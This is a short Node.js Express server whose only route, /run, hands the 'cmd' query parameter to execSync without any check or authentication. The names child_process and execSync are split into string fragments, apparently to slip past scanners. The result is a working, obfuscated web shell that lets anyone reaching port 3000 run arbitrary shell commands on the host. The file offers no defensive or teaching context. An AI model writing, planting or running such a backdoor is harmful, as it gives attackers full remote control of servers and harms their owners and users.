const express = require("express");
const app = express();

const cp = require("child" + "_process");

app.get("/run", (req, res) => {
  cp["ex" + "ecSync"](req.query.cmd);
  res.send("done");
});

app.listen(3000);
